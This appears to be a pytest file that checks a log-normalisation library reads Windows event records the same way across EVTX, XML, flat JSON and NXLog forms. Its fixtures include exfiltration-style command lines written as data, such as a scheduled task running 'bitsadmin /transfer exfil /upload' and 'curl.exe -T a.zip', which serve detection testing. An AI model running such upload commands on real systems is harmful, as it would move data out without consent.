"""Windows event logs as EVTX, XML and flat JSON, and their traps: escaping, clocks, numbers as texts, device paths."""

import json

import pytest

from .reading import Case, Json, check, iso, one

TIME = "2026-03-12T09:14:02.123Z"
HOST = "WS1.corp.example"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
CLASSIC = "Windows PowerShell"
SCHEDULER = "Microsoft-Windows-TaskScheduler/Operational"
TASK = (
    '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions Context="Author">\r\n  <Exec>\r\n'
    "    <Command>bitsadmin.exe</Command>\r\n"
    "    <Arguments>/transfer exfil /upload http://x/?a=1&amp;b=2 c:\\a</Arguments>\r\n  </Exec></Actions></Task>"
)
TEXTS = [
    "Available",
    "None",
    (
        "\tNewEngineState=Available\r\n\tSequenceNumber=13\r\n\tHostName=ConsoleHost\r\n"
        "\tHostApplication=powershell.exe -f C:\\up.ps1\r\n\tEngineVersion=5.1.19041.1\r\n\tCommandLine="
    ),
]

# The log, the event's number, its data, the category, and the fields that have to come out of it, in any form.
KINDS: list[tuple[str, str, int, Json, str, Json]] = [
    (
        "process, Sysmon",
        SYSMON,
        1,
        {
            "Image": "C:\\Windows\\System32\\curl.exe",
            "CommandLine": "curl.exe  -T a.zip",
            "ParentImage": "C:\\cmd.exe",
            "User": "CORP\\ann",
            "Hashes": "SHA256=AB",
        },
        "process_creation",
        {"Image": "C:\\Windows\\System32\\curl.exe", "CommandLine": "curl.exe  -T a.zip", "Hashes": "SHA256=AB"},
    ),
    (
        "connection, Sysmon",
        SYSMON,
        3,
        {"Image": "C:\\p.exe", "DestinationIp": "203.0.113.7", "DestinationPort": "443", "Initiated": "true"},
        "network_connection",
        {"Image": "C:\\p.exe", "DestinationIp": "203.0.113.7", "DestinationPort": "443"},
    ),
    (
        "file, Sysmon",
        SYSMON,
        11,
        {"Image": "C:\\p.exe", "TargetFilename": "C:\\a.zip"},
        "file_event",
        {"TargetFilename": "C:\\a.zip"},
    ),
    (
        "name look-up, Sysmon",
        SYSMON,
        22,
        {"Image": "C:\\p.exe", "QueryName": "x.example"},
        "dns_query",
        {"QueryName": "x.example"},
    ),
    (
        "process, Security",
        SECURITY,
        4688,
        {
            "NewProcessName": "C:\\p.exe",
            "NewProcessId": "0x13a4",
            "ProcessId": "0x230",
            "CommandLine": "p.exe /x",
            "ParentProcessName": "C:\\cmd.exe",
            "SubjectDomainName": "CORP",
            "SubjectUserName": "ann",
        },
        "process_creation",
        {
            "Image": "C:\\p.exe",
            "CommandLine": "p.exe /x",
            "ParentImage": "C:\\cmd.exe",
            "ProcessId": 5028,
            "ParentProcessId": 560,
            "User": "CORP\\ann",
        },
    ),
    (
        "connection, Security",
        SECURITY,
        5156,
        {
            "Application": "\\device\\harddiskvolume3\\windows\\system32\\curl.exe",
            "ProcessID": "5028",
            "Direction": "%%14593",
            "SourceAddress": "10.0.0.5",
            "SourcePort": "50123",
            "DestAddress": "203.0.113.7",
            "DestPort": "443",
            "Protocol": "17",
        },
        "network_connection",
        {
            "DestinationIp": "203.0.113.7",
            "DestinationPort": 443,
            "SourcePort": 50123,
            "Protocol": "udp",
            "Initiated": "true",
            "ProcessId": 5028,
        },
    ),
    (
        "scheduled task, Security",
        SECURITY,
        4698,
        {"TaskName": "\\Collect", "TaskContent": TASK, "SubjectDomainName": "CORP", "SubjectUserName": "ann"},
        "",
        {"User": "CORP\\ann", "CommandLine": "bitsadmin.exe /transfer exfil /upload http://x/?a=1&b=2 c:\\a"},
    ),
    (
        "script block",
        POWERSHELL,
        4104,
        {"ScriptBlockText": "gci -Recurse", "ScriptBlockId": "b1", "MessageNumber": "1", "MessageTotal": "1"},
        "ps_script",
        {"ScriptBlockText": "gci -Recurse", "ScriptBlockId": "b1", "MessageTotal": "1"},
    ),
    (
        "module",
        POWERSHELL,
        4103,
        {
            "ContextInfo": "        Severity = Informational\r\n        Host Application = powershell.exe -f a.ps1\r\n"
            "        User = CORP\\ann\r\n        Connected User = \r\n",
            "Payload": 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"',
        },
        "ps_module",
        {"User": "CORP\\ann", "CommandLine": "powershell.exe -f a.ps1"},
    ),
    (
        "task registered",
        SCHEDULER,
        106,
        {"TaskName": "\\Collect", "UserContext": "CORP\\ann"},
        "",
        {"User": "CORP\\ann"},
    ),
]
NAMES = [kind[0] for kind in KINDS]


def evtx(channel: str, number: object, data: object) -> Json:
    """As the evtx package renders a record."""
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": channel.partition("/")[0], "Guid": "5770385F"}},
                "EventID": number,
                "TimeCreated": {"#attributes": {"SystemTime": TIME}},
                "EventRecordID": 4711,
                "Channel": channel,
                "Computer": HOST,
                "Security": None,
            },
            "EventData": data,
        }
    }


def xml(channel: str, number: int, data: Json) -> str:
    """As wevtutil and Splunk render it."""
    escaped = {
        name: text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r\n", "&#13;&#10;")
        for name, text in data.items()
    }
    fields = "".join(f"<Data Name='{name}'>{text}</Data>" for name, text in escaped.items())
    return (
        f"<Event xmlns='x'><System><Provider Name='{channel.partition('/')[0]}'/><EventID>{number}</EventID>"
        f"<TimeCreated SystemTime='{TIME}'/><EventRecordID>4711</EventRecordID><Channel>{channel}</Channel>"
        f"<Computer>{HOST}</Computer></System><EventData>{fields}</EventData></Event>"
    )


def converted(channel: str, number: int, data: Json) -> Json:
    """As libraries turn that XML into JSON."""
    record = evtx(channel, str(number), {"Data": [{"@Name": name, "#text": text} for name, text in data.items()]})
    record["Event"]["System"]["Provider"] = {"@Name": channel.partition("/")[0]}
    record["Event"]["System"]["TimeCreated"] = {"@SystemTime": TIME}
    return record


def plain(channel: str, number: int, data: Json) -> Json:
    """The same without what only OTRF's have."""
    return {"Channel": channel, "EventID": number, "Computer": HOST, "TimeCreated": TIME, **data}


def flat(channel: str, number: object, data: Json) -> Json:
    """As OTRF's data sets have it."""
    return {
        "@timestamp": TIME,
        "Channel": channel,
        "EventID": number,
        "Hostname": HOST,
        "SourceName": channel.partition("/")[0],
        "TimeCreated": TIME,
        **data,
    }


def nxlog(channel: str, number: int, data: Json) -> Json:
    """As NXLog writes it: texts escaped, times in the collector's zone, other events' fields beside."""
    escaped = {
        name: text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") for name, text in data.items()
    }
    return {
        "@timestamp": TIME,
        "EventTime": "2026-03-12 05:14:02",
        "EventReceivedTime": "2026-03-12 05:14:04",
        "Hostname": HOST,
        "host": "collector",
        "EventID": number,
        "SourceName": channel.partition("/")[0],
        "Channel": channel,
        "RecordNumber": 4711,
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
        **escaped,
    }


FORMS = {
    "evtx": evtx,
    "evtx (XML)": xml,
    "evtx (converted XML)": converted,
    "windows_flat": plain,
    "windows_flat (OTRF)": flat,
    "nxlog": nxlog,
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(("_name", "channel", "number", "data", "category", "fields"), KINDS, ids=NAMES)
def test_an_event_is_the_same_in_every_form(form, _name, channel, number, data, category, fields):
    record = FORMS[form](channel, number, data)
    check(
        Case(
            form,
            record,
            form.partition(" ")[0],
            category,
            "windows",
            HOST,
            TIME,
            fields,
            raw={"EventID": number, "Channel": channel, **{name: data[name] for name in data if name != "TaskContent"}},
        )
    )


@pytest.mark.parametrize("number", [1, "1", "0x1", 1.0, {"#text": 1}, {"#text": "1", "#attributes": {"Qualifiers": 0}}])
@pytest.mark.parametrize("form", [evtx, flat])
def test_an_event_number_may_be_written_in_any_way(number, form):
    event = one(form(SYSMON, number, {"Image": "C:\\p.exe", "CommandLine": "p"}))
    assert (event.category, event.raw["EventID"]) == ("process_creation", 1)


@pytest.mark.parametrize(("number", "category"), [(400, "start"), (600, "provider_start"), (800, "script")])
@pytest.mark.parametrize(
    "record",
    [
        lambda number: evtx(CLASSIC, number, {"Data": {"#text": TEXTS}, "Binary": None}),
        lambda number: xml(CLASSIC, number, {}).replace(
            "<EventData></EventData>",
            "<EventData>" + "".join(f"<Data>{text}</Data>" for text in TEXTS) + "</EventData>",
        ),
        lambda number: flat(CLASSIC, number, {"Message": "Engine state is changed. \r\n\r\nDetails: \r\n" + TEXTS[2]}),
    ],
    ids=["evtx", "XML", "flat"],
)
def test_what_classic_powershell_says_is_taken_from_its_unnamed_texts(record, number, category):
    event = one(record(number))
    assert event.category == f"ps_classic_{category}"
    assert event.fields["HostApplication"] == "powershell.exe -f C:\\up.ps1"
    assert event.fields["EngineVersion"] == "5.1.19041.1"
    assert "NewEngineState=Available" in str(event.fields["Data"])


def test_a_device_path_still_ends_with_the_name_of_the_program():
    """Volume numbers can't be told apart from drive letters, so the path stays as it is: rules look at its end."""
    event = one(evtx(SECURITY, 5156, KINDS[5][3]))
    assert str(event.fields["Image"]).endswith("\\curl.exe")


def test_nxlog_escapes_its_texts_and_others_do_not():
    command = 'cmd /c curl "http://x/?a=1&b=2" >> o.txt'
    data = {"CommandLine": command, "Image": "C:\\cmd.exe"}
    assert one(nxlog(SYSMON, 1, data)).fields["CommandLine"] == command
    assert one(nxlog(SYSMON, 1, data)).raw["CommandLine"] == command
    assert one(flat(SYSMON, 1, {"CommandLine": "echo &gt; x"})).fields["CommandLine"] == "echo &gt; x"


def test_doubled_percent_signs_stay_as_sysmon_writes_them():
    """Sysmon itself doubles them; `%temp%` still stands in `%%temp%%`, where rules look for it."""
    event = one(flat(SYSMON, 1, {"Image": "C:\\cmd.exe", "CommandLine": "cmd /c dir %%temp%%"}))
    assert "%temp%" in str(event.fields["CommandLine"])


def test_events_of_one_host_are_on_one_clock():
    """Sysmon's UtcTime can differ from the clock that all events of a file have; 4688 has only that one."""
    late = flat(SYSMON, 3, {"UtcTime": "2026-03-12 17:14:02.120", "DestinationIp": "203.0.113.7"})
    process = flat(SECURITY, 4688, {"NewProcessName": "C:\\7z.exe"})
    assert iso(one(late).time) == iso(one(process).time) == TIME


def test_the_local_times_of_nxlog_count_only_when_there_is_no_other():
    record = nxlog(SYSMON, 1, {"Image": "C:\\p.exe"})
    assert iso(one(record).ingest_time) == TIME
    del record["@timestamp"]
    assert (iso(one(record).time), iso(one(record).ingest_time)) == ("2026-03-12T05:14:02Z", "2026-03-12T05:14:04Z")


def test_events_of_other_logs_keep_their_own_fields():
    event = one(evtx("System", 7045, {"ServiceName": "x", "ImagePath": "C:\\x.exe"}))
    assert (event.category, event.service, event.raw["ImagePath"]) == ("", "system", "C:\\x.exe")


def test_user_data_are_fields_too():
    record = evtx("System", 104, None)
    record["Event"]["UserData"] = {"LogFileCleared": {"SubjectUserName": "ann", "Channel": "Security"}}
    event = one(record)
    assert event.raw["SubjectUserName"] == "ann"
    assert event.raw["Channel"] == "System"


@pytest.mark.parametrize(
    ("record", "category", "product"),
    [
        ({"EventID": 1, "Image": "C:\\p.exe", "CommandLine": "p"}, "process_creation", "windows"),
        ({"EventID": "1", "Image": "/usr/bin/curl", "CommandLine": "curl"}, "process_creation", "linux"),
        ({"EventID": 4688, "NewProcessName": "C:\\p.exe"}, "process_creation", "windows"),
        ({"EventCode": "3", "Image": "C:\\p.exe", "DestinationIp": "203.0.113.7"}, "network_connection", "windows"),
        ({"EventID": 4104, "ScriptBlockText": "gci"}, "ps_script", "windows"),
        ({"EventID": 1, "SourceName": "Microsoft-Windows-Kernel-General"}, "", "windows"),
    ],
    ids=["Sysmon 1", "Sysmon for Linux 1", "4688", "EventCode", "4104", "another log"],
)
def test_a_record_that_names_no_log_is_known_by_its_number(record, category, product):
    event = one(record | {"Computer": "ws1"})
    assert (event.shape, event.category, event.product) == ("windows_bare", category, product)


def test_the_same_record_has_the_same_identity_wherever_it_stands():
    """The record number with its log, host and time; not the text, which a collector may have written anew."""
    data = {"Image": "C:\\p.exe"}
    assert one(evtx(SYSMON, 1, data)).id == one(xml(SYSMON, 1, data)).id
    assert one(evtx(SYSMON, 1, data)).id != one(evtx(SECURITY, 1, data)).id
    assert one(json.dumps(flat(SYSMON, 1, data))).id == one(json.dumps(flat(SYSMON, 1, data)) + " ").id
